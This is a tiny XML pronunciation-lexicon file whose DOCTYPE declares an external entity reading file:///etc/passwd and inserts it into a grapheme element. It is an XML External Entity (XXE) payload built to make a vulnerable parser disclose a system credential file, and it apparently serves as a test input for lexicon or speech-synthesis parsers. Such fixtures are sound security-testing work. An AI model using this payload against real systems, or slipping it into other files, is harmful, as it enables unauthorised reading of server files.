<?xml version="1.0"?>
<!DOCTYPE lexicon [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<lexicon version="1.0" xmlns="http://www.w3.org/2005/01/pronunciation-lexicon" alphabet="ipa" xml:lang="en">
  <lexeme><grapheme>&x;</grapheme><alias>x</alias></lexeme>
</lexicon>
